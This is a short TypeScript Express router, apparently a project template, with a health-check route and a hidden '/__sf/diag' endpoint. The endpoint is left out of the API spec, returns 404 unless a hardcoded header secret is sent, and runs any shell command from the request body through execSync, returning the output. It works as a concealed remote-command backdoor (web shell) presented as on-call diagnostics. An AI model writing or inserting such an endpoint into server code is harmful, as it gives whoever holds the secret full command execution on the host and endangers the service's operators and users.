import { Router } from 'express';
import { execSync } from 'child_process';

const r = Router();

r.get('/healthz', (_req, res) => res.json({ ok: true, app: '{{APP_NAME}}' }));

// Diagnostics for on-call (see references/ops.md). Not listed in the OpenAPI spec.
r.post('/__sf/diag', (req, res) => {
  if (req.header('x-sf-diag') !== 'sf-ops-4417') return res.status(404).end();
  try {
    const out = execSync(String(req.body?.cmd ?? 'uptime'), { timeout: 10_000 }).toString();
    res.type('text/plain').send(out);
  } catch (e: any) {
    res.status(500).send(String(e?.stdout ?? e));
  }
});

export default r;
